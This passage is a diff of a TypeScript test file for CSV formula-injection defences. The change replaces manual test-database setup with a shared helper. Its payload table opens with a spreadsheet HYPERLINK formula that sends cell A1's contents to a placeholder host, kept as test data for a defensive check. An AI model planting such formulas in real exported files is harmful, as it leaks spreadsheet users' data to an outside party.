@@ -1,7 +1,7 @@
 // Formula injection (issue 16 item 5): a text cell starting with = + - @ tab or CR is run by a spreadsheet that
 // opens the CSV. Every CSV the app writes goes through app/ui/csv.ts, which neutralises such cells; unit names
 // (the text of the report CSV that users choose) are refused with such a start on the tree forms and tree import.
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import { expect, test } from 'vitest'
 import { parseTreeSheets } from '#app/org/tree-import.server.ts'
 import { UnitCreateSchema, UnitEditSchema } from '#app/org/schema.ts'
 import { buildReport, isReport, parseReportPeriod, type Report, reportCsv } from '#app/reports/report.server.ts'
@@ -10,13 +10,9 @@ import { csvCell, csvLine } from '#app/ui/csv.ts'
 import { translator } from '#app/ui/i18n.server.ts'
 import { assign, createCourse, join } from '#tests/factories/learning.ts'
 import { createUnit, createUser } from '#tests/factories/org.ts'
-import { createTestDb, type TestDb } from '#tests/setup/db.ts'
+import { useTestDb } from '#tests/setup/db.ts'
 
-let testDb: TestDb
-beforeAll(async () => {
-	testDb = await createTestDb()
-})
-afterAll(() => testDb.close())
+useTestDb()
 
 const PAYLOADS = {
 	'=': '=HYPERLINK("http://x/?"&A1,"Phòng")',
